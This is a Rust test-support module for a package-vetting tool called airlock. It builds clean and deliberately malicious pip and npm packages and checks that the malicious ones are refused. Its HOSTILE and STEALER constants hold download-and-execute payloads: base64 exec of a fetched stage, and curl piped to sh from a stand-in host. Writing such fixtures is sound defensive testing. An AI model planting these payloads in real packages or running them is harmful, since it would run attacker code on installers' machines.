//! `airlock serve` over packages that `airlock run` has published, and the real clients that people install with.

use std::{
    ffi::OsStr,
    fs::{self, File},
    path::{Path, PathBuf},
    process::{Command, Output},
};

use anyhow::{Context as _, Result, bail};
use domain::Sha256;
use serde_json::Value;

use crate::{
    binaries::Binaries,
    package::Package,
    process::{Server, free_port, run},
    venv::Venv,
};

/// What `pip` shows a package's code as, were its host not a reserved name. Written for this test; harmless.
const HOSTILE: &str = "import base64, urllib.request\n\
    exec(base64.b64decode(urllib.request.urlopen(\"http://payload.example.invalid/stage2\").read()))\n";
const ADDER: &str = "exports.add = (left, right) => left + right;\n";
const STEALER: &str =
    "require('child_process').execSync('curl -s http://payload.example.invalid/run.sh | sh');\n";

/// A store, its server, and an empty home for the clients.
pub struct Clients {
    airlock: String,
    venv: Venv,
    server: Server,
    folder: tempfile::TempDir,
    token: String,
    results: Value,
}

impl Clients {
    /// Makes packages of every kind, takes them through `airlock run`, and serves what was approved: `adder` (a git
    /// archive), `tiny-wheel`, `tiny-source` and `tiny-script`, the npm package `@airlock/tiny-script`. Refused are
    /// `evil-wheel` and the npm package `evil-script`.
    pub fn start() -> Result<Self> {
        if Command::new("npm").arg("--version").output().is_err() {
            bail!("the tests of the clients need npm (and node) on the PATH: install it and run again");
        }
        let venv = Venv::provide()?;
        let binaries = Binaries::build(&venv)?;
        let airlock = binaries.program("airlock")?.display().to_string();
        let folder = tempfile::tempdir()?;
        let (packages, store) = (folder.path().join("packages"), folder.path().join("store"));
        fs::create_dir(&packages)?;
        let adder = Package::clean("adder");
        fs::write(packages.join("adder.zip"), &adder.bytes)?;
        python_package(&venv, &packages, &["tiny-wheel", "1.0"])?;
        python_package(&venv, &packages, &["tiny-source", "1.0"])?;
        python_package(&venv, &packages, &["evil-wheel", "1.0", HOSTILE])?;
        npm_package(&packages, "@airlock/tiny-script", "1.0.0", ADDER)?;
        npm_package(&packages, "evil-script", "1.0.0", STEALER)?;
        let csv = "adder,adder.zip\ntiny-wheel,tiny_wheel-1.0-py3-none-any.whl\n\
                   tiny-source,tiny_source-1.0.tar.gz\nairlock-tiny-script,airlock-tiny-script-1.0.0.tgz\n\
                   evil-wheel,evil_wheel-1.0-py3-none-any.whl\nevil-script,evil-script-1.0.0.tgz\n";
        let results = run_csv(&airlock, &packages, &store, csv)?;
        let results = serde_json::from_str(&results).context("airlock run prints no document")?;
        let port = free_port()?;
        let store = store.display().to_string();
        let command = [&airlock, "serve", "--store", &store, "--port", &port.to_string()];
        let server = Server::start(&command, &[], port, &folder.path().join("serve.log"))?;
        let token = token(&server)?;
        Ok(Self { airlock, venv, server, folder, token, results })
    }

    /// `airlock run` with these rows; gives what it prints.
    pub fn run(&self, csv: &str) -> Result<String> {
        run_csv(&self.airlock, &self.packages(), &self.store(), csv)
    }

    /// What `airlock run` said of a package.
    pub fn result(&self, package: &str) -> &Value {
        let packages = self.results["packages"].as_array().map_or(&[][..], Vec::as_slice);
        packages.iter().find(|result| result["package"] == package).unwrap_or(&Value::Null)
    }

    /// The folder that `airlock run` kept everything in.
    pub fn store(&self) -> PathBuf {
        self.folder.path().join("store")
    }

    /// Where the packages are made that nobody has asked for yet.
    pub fn packages(&self) -> PathBuf {
        self.folder.path().join("packages")
    }

    /// A folder that is empty.
    pub fn empty(&self, name: &str) -> Result<PathBuf> {
        let path = self.folder.path().join(name);
        fs::create_dir(&path)?;
        Ok(path)
    }

    /// Makes a wheel and a source distribution: name, version, and what the module holds.
    pub fn python_package(&self, arguments: &[&str]) -> Result<()> {
        python_package(&self.venv, &self.packages(), arguments)
    }

    /// The server's address.
    pub fn url(&self) -> String {
        self.server.url()
    }

    /// The token that the server printed.
    pub fn token(&self) -> &str {
        &self.token
    }

    /// A program, one of the venv's or one of this machine's, in `folder`, with a home of its own and no settings.
    pub fn command(&self, program: &str, folder: &Path) -> Command {
        let own = self.venv.program(program);
        let mut command = Command::new(if Path::new(&own).exists() { &own } else { program });
        let path = std::env::var("PATH").unwrap_or_default();
        let tools = Path::new(&own).parent().map(|tools| tools.display().to_string()).unwrap_or_default();
        command
            .current_dir(folder)
            .env_clear()
            .env("PATH", format!("{tools}:{path}"))
            .env("HOME", self.folder.path())
            .env("PIP_CONFIG_FILE", "/dev/null")
            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
            // Where an install command as it is mailed puts a package.
            .env("PIP_TARGET", folder)
            .env("npm_config_update_notifier", "false")
            .env("npm_config_audit", "false");
        command
    }

    /// `pip` with the index.
    pub fn pip<S: AsRef<OsStr>>(&self, folder: &Path, command: &str, arguments: &[S]) -> Result<Output> {
        let index = format!("{}/pypi/approved/simple/", self.url());
        Ok(self
            .command("pip", folder)
            .args([command, "--index-url", &index])
            .args(arguments)
            .env_remove(if command == "download" { "PIP_TARGET" } else { "" })
            .output()?)
    }

    /// `npm` with the registry and, for those who publish, the token.
    pub fn npm(&self, folder: &Path, arguments: &[&str]) -> Result<Output> {
        let registry = format!("{}/npm/approved/", self.url());
        let token = format!("--{}:_authToken={}", &registry["http:".len()..], self.token);
        Ok(self.command("npm", folder).args(arguments).args(["--registry", &registry, &token]).output()?)
    }

    /// `aws codeartifact`.
    pub fn aws(&self, folder: &Path, operation: &str, arguments: &[&str]) -> Result<Output> {
        let url = self.url();
        let common = ["--domain", "airlock", "--repository", "approved", "--endpoint-url", &url];
        Ok(self
            .command("aws", folder)
            .args(["codeartifact", operation])
            .args(arguments)
            .args(common)
            .args(["--region", "us-east-1", "--no-sign-request", "--output", "json"])
            .output()?)
    }

    /// A command as it was mailed, with this server's port in place of the usual one.
    pub fn mailed(&self, folder: &Path, command: &str) -> Result<Output> {
        let here = command.replace("http://127.0.0.1:8070", &self.url());
        Ok(self.command("sh", folder).args(["-c", &here]).output()?)
    }

    /// `twine upload` of these files.
    pub fn twine(&self, folder: &Path, files: &[&str]) -> Result<Output> {
        let index = format!("{}/pypi/approved/", self.url());
        Ok(self
            .command("twine", folder)
            .args(["upload", "--non-interactive", "--disable-progress-bar", "--repository-url", &index])
            .args(["--username", "aws", "--password", &self.token])
            .args(files)
            .output()?)
    }
}

fn run_csv(airlock: &str, packages: &Path, store: &Path, csv: &str) -> Result<String> {
    fs::write(packages.join("requests.csv"), csv)?;
    let mut command = Command::new(airlock);
    command.args(["run", "requests.csv", "--format", "json", "--store"]).arg(store).current_dir(packages);
    let output = command.output()?;
    match output.status.code() {
        Some(0 | 1) => Ok(String::from_utf8(output.stdout)?),
        _ => bail!("airlock run ended with {output:?}"),
    }
}

/// The digest of a file.
pub fn sha256_of(path: &Path) -> Result<String> {
    Ok(Sha256::of(&fs::read(path).with_context(|| path.display().to_string())?).to_string())
}

fn python_package(venv: &Venv, folder: &Path, arguments: &[&str]) -> Result<()> {
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/src/clients.py");
    run(Command::new(venv.program("python")).arg(script).arg(folder).args(arguments)).map(drop)
}

/// Writes a package of one file and lets npm pack it.
fn npm_package(folder: &Path, name: &str, version: &str, script: &str) -> Result<()> {
    let sources = folder.join(name.replace(['@', '/'], "_"));
    fs::create_dir(&sources)?;
    let manifest =
        serde_json::json!({"name": name, "version": version, "main": "index.js", "license": "MIT"});
    serde_json::to_writer(File::create(sources.join("package.json"))?, &manifest)?;
    fs::write(sources.join("index.js"), script)?;
    let mut npm = Command::new("npm");
    npm.args(["pack", "--silent", "--pack-destination"]).arg(folder).current_dir(&sources);
    run(&mut npm).map(drop)
}

/// The token that the server prints once it listens.
fn token(server: &Server) -> Result<String> {
    for _ in 0..100 {
        if let Some((_, rest)) = server.log().split_once("token for writers: ")
            && let Some((token, _)) = rest.split_once('\n')
        {
            return Ok(token.to_owned());
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    bail!("airlock serve prints no token:\n{}", server.log())
}
